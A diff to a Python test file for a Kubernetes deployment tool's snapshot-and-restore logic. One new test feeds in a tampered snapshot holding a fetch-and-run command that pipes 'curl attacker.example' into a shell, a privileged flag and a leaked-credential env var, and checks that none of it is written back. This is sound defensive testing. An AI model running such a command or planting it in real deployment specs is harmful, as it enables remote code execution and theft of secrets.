@@ -229,9 +229,11 @@ def test_rollout_status_reads_and_decides(serving, api):
     assert serving.rollout_status(TARGET, 4).state == "progressing"  # generation 4 not observed yet
 
 
-def test_restore_puts_container_and_annotations_back_with_a_json_patch(serving, api):
+def test_restore_puts_back_image_seam_env_and_seam_annotations_with_a_json_patch(serving, api):
     snapshot = serving.snapshot(TARGET)
-    api.deployment["spec"]["template"]["spec"]["containers"][1]["image"] = IMAGE
+    model = api.deployment["spec"]["template"]["spec"]["containers"][1]
+    model["image"] = IMAGE
+    model["env"] = [{"name": "LOG_LEVEL", "value": "debug"}, {"name": "SEAM_MODEL_VERSION", "value": "7"}]
     api.deployment["spec"]["template"]["metadata"]["annotations"]["seam.dev/run-id"] = "r"
 
     assert serving.restore(TARGET, snapshot) == 4
@@ -240,9 +242,52 @@ def test_restore_puts_container_and_annotations_back_with_a_json_patch(serving, 
     assert patch.headers["Content-Type"] == "application/json-patch+json"
     assert json.loads(patch.content) == [
         {"op": "test", "path": "/spec/template/spec/containers/1/name", "value": "model"},
-        {"op": "replace", "path": "/spec/template/spec/containers/1", "value": snapshot.container},
+        {
+            "op": "replace",
+            "path": "/spec/template/spec/containers/1/image",
+            "value": "churn@sha256:" + "0" * 64,
+        },
+        # SEAM_* back as they were (none), everything else of the env as it is live.
+        {
+            "op": "add",
+            "path": "/spec/template/spec/containers/1/env",
+            "value": [{"name": "LOG_LEVEL", "value": "debug"}],
+        },
         {"op": "add", "path": "/spec/template/metadata/annotations", "value": {"team": "risk"}},
     ]
+
+
+def test_restore_of_a_tampered_snapshot_writes_only_what_seam_manages(serving, api):
+    """A container spec read back from the runs table may have been edited: only image, SEAM_* env
+    (plain values) and seam.dev/* annotations of it are ever written."""
+    tampered = DeploymentSnapshot(
+        container={
+            "name": "model",
+            "image": "churn@sha256:" + "1" * 64,
+            "command": ["sh", "-c", "curl attacker.example | sh"],
+            "securityContext": {"privileged": True},
+            "env": [
+                {"name": "SEAM_MODEL_VERSION", "value": "6"},
+                {"name": "AWS_ACCESS_KEY_ID", "value": "AKIA..."},
+                {"name": "SEAM_TOKEN", "valueFrom": {"secretKeyRef": {"name": "other-team", "key": "k"}}},
+            ],
+        },
+        annotations={"seam.dev/run-id": "seam-unit-churn-000000000006", "sidecar.istio.io/inject": "false"},
+    )
+
+    serving.restore(TARGET, tampered)
+
+    ops = json.loads(api.patches()[0].content)
+    assert [op["path"].rsplit("/", 1)[-1] for op in ops] == ["name", "image", "env", "annotations"]
+    assert ops[2]["value"] == [
+        {"name": "LOG_LEVEL", "value": "info"},
+        {"name": "SEAM_MODEL_VERSION", "value": "6"},
+    ]
+    assert ops[3]["value"] == {"team": "risk", "seam.dev/run-id": "seam-unit-churn-000000000006"}
+    assert (
+        "attacker" not in api.patches()[0].content.decode()
+        and "privileged" not in api.patches()[0].content.decode()
+    )
 
 
 def test_restore_when_already_restored_writes_nothing(serving, api):
